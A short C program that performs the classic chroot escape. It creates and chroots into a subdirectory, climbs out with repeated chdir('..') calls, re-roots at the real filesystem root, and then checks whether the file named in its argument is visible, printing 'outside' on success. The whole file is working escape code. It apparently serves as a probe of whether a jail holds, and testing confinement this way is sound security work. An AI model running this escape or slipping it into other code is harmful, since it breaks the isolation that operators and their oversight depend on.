/* The classic way out of a chroot: change the root to a folder below while the working directory stays above it, climb,
 * and make what was climbed to the root. Says what it sees of the file that its argument names. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  struct stat found;
  if (argc != 2) return 2;
  mkdir("/below", 0755);
  if (chroot("/below") != 0) {
    perror("chroot");
    return 1;
  }
  for (int level = 0; level < 64; level++)
    if (chdir("..") != 0) perror("chdir");
  if (chroot(".") != 0) {
    perror("chroot");
    return 1;
  }
  if (stat(argv[1], &found) != 0) {
    perror(argv[1]);
    return 3;
  }
  puts("outside");
  return 0;
}
